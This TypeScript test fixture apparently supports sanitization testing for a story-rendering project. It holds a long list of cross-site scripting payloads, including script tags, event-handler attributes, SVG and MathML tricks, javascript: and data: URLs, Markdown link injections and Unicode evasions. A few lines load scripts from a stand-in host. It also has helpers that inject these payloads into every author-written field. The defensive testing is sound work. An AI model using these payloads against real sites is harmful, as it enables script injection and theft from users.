// Texts that would run a script where a page took them for more than text, and a story that is made of them. Whatever
// runs sets `hit` or opens a dialog.
import type { Story } from '../src/core/story.ts';
import { everyBlock } from './every-block.ts';

export const HOSTILE: readonly string[] = [
  // elements that run
  '<script>hit=1</script>',
  '<SCRIPT>hit=1</SCRIPT>',
  '<script src=data:text/javascript,hit=1></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type=module>hit=1</script>',
  '<scr<script>ipt>hit=1</scr</script>ipt>',
  '<script\n>hit=1</script\n>',
  '<script/x>hit=1</script>',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<iframe src="javascript:parent.hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="javascript:hit=1"></object>',
  '<embed src="javascript:hit=1">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:hit=1">',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<form action="javascript:hit=1"><button autofocus>press</button></form>',
  '<button formaction="javascript:hit=1">press</button>',
  // attributes that run
  '<img src=x onerror=hit=1>',
  '<img src=x onerror="alert(1)">',
  '<IMG SRC=x OnErRoR=hit=1>',
  '<img/src=x/onerror=hit=1>',
  '<img src=x\tonerror\n=\nhit=1>',
  '<body onload=hit=1>',
  '<details open ontoggle=hit=1>',
  '<input autofocus onfocus=hit=1>',
  '<video><source onerror=hit=1></video>',
  '<audio src=x onerror=hit=1>',
  '<marquee onstart=hit=1>',
  '<p onpointerover=hit=1 style="position:fixed;inset:0">',
  '<a href="#" onclick=hit=1 autofocus tabindex=1 onfocus=hit=1>',
  '<style>*{animation:x 1s}@keyframes x{}</style><p onanimationstart=hit=1>',
  '<x contenteditable onblur=hit=1 autofocus tabindex=1>',
  // other name spaces, templates, shadow roots
  '<svg onload=hit=1>',
  '<svg><script>hit=1</script></svg>',
  '<svg><script href="data:text/javascript,hit=1"/></svg>',
  '<svg><a xlink:href="javascript:hit=1"><text>press</text></a></svg>',
  '<svg><animate onbegin=hit=1 attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=hit=1>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit=1</script></svg>#x"/>',
  '<svg><foreignObject><img src=x onerror=hit=1></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit=1&gt;">',
  '<math href="javascript:hit=1">press</math>',
  '<template><script>hit=1</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=hit=1></template></div>',
  // ends of what stands around
  '</title><script>hit=1</script>',
  '</textarea><img src=x onerror=hit=1>',
  '</style><img src=x onerror=hit=1>',
  '</script><script>hit=1</script>',
  '</script ><img src=x onerror=hit=1>',
  '<!--<script>',
  '--><img src=x onerror=hit=1>',
  ']]><script>hit=1</script>',
  '<![CDATA[<script>hit=1</script>]]>',
  '<?xml-stylesheet href="javascript:hit=1"?>',
  '</main></body></html><script>hit=1</script>',
  '" onmouseover="hit=1" x="',
  "' onmouseover='hit=1' x='",
  '" autofocus onfocus=hit=1 tabindex=1 x="',
  '"><img src=x onerror=hit=1>',
  "'><img src=x onerror=hit=1>",
  '` onmouseover=hit=1 `',
  '"/><script>hit=1</script><g x="',
  '\\"><script>hit=1</script>',
  '\\u003cscript>hit=1\\u003c/script>',
  '"};hit=1;//',
  "';hit=1;//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that is meant as it stands
  '${hit=1}',
  '{{constructor.constructor("hit=1")()}}',
  '__proto__',
  // broken tags and entities
  '<img src=x onerror=hit=1 ',
  '<<img src=x onerror=hit=1>>',
  '<img """><script>hit=1</script>">',
  '&lt;img src=x onerror=hit=1&gt;',
  '&#60;img src=x onerror=hit=1&#62;',
  '&#x3C;script&#x3E;hit=1&#x3C;/script&#x3E;',
  '&quot; onmouseover=&quot;hit=1',
  // addresses
  'javascript:hit=1',
  'JaVaScRiPt:hit=1',
  ' \u0001javascript:hit=1',
  'java\tscript:hit=1',
  'java\nscript:hit=1',
  'javascript&colon;hit=1',
  '&#106;avascript:hit=1',
  'javascript://example.org/%0ahit=1',
  'vbscript:hit=1',
  'data:text/html,<script>hit=1</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
  '//evil.example/x.js',
  // Markdown
  '[press](javascript:hit=1)',
  '[press](JaVaScRiPt:hit=1)',
  '[press](<java\tscript:hit=1>)',
  '[press](javascript&colon;hit=1)',
  '[press](&#106;avascript:hit=1)',
  '[press](data:text/html,<script>hit=1</script>)',
  '[press](vbscript:hit=1)',
  '[press](https://example.org/"onmouseover="hit=1)',
  '[press](https://example.org/ "x\\" onmouseover=hit=1")',
  '![x](javascript:hit=1)',
  '![x" onerror="hit=1](x)',
  '<javascript:hit=1>',
  '<https://example.org/"onmouseover=hit=1>',
  '[press][1]\n\n[1]: javascript:hit=1',
  '`<img src=x onerror=hit=1>`',
  // letters that are not what they seem
  '\uff1cscript\uff1ehit=1\uff1c/script\uff1e',
  '\u2039img src=x onerror=hit=1\u203a',
  '<img src=x onerror=hit=1>\u2028<script>hit=1</script>',
  '\u202e<script>hit=1</script>\u202c',
  '<\u200bscript>hit=1</\u200bscript>',
  '<ſcript>hit=1</ſcript>',
  '<img src=x onerror\u3000=hit=1>',
  '\ud800<script>hit=1</script>',
];

/** A text as a page hands it back: what UTF-16 cannot hold is replaced. */
export const wellFormed = (text: string): string => new TextDecoder().decode(new TextEncoder().encode(text));

/** Where a story keeps words that somebody wrote, by the name of their place; ids, days and kinds of things are none. */
const WORDS = new Set([
  'heading',
  'text',
  'anchor',
  'words',
  'unit',
  'own',
  'byline',
  'contact',
  'version',
  'label',
  'name',
  'said',
]);

/** A copy of a thing in which every text that somebody wrote is the next that `next` gives. */
export function refilled<T>(thing: T, next: () => string): T {
  const copy = (value: unknown, name: string): unknown => {
    if (typeof value === 'string') return WORDS.has(name) ? next() : value;
    if (Array.isArray(value)) return value.map((each) => copy(each, name === 'variants' ? 'words' : ''));
    if (value instanceof Map) return new Map([...value].map(([key, each]) => [key, copy(each, '')]));
    if (typeof value !== 'object' || value === null) return value;
    const isText = 'en' in value && typeof value.en === 'string';
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, copy(each, isText ? 'words' : key)]));
  };
  return copy(thing, '') as T;
}

/** The same of a story, its prose and its maps' words included. */
export function filled(story: Story, next: () => string): Story {
  const made = refilled(story, next);
  return {
    ...made,
    // Every other step's map is told in the author's words, the rest in ours, around names that are the author's.
    steps: made.steps.map((step, at) => ({ ...step, alt: at % 2 === 0 ? { en: next() } : null })),
    prose: Object.fromEntries(
      Object.entries(made.prose).map(([lang, prose]) => [
        lang,
        Object.fromEntries(
          Object.entries(prose).map(([id, { heading, blocks }]) => {
            const word = { kind: 'text', text: next() } as const;
            const link = { kind: 'link', href: `https://example.org/?${next()}`, children: [word] } as const;
            return [
              id,
              { heading, blocks: [...blocks, ...everyBlock([{ kind: 'strong', children: [link] } as const])] },
            ];
          }),
        ),
      ]),
    ),
  };
}
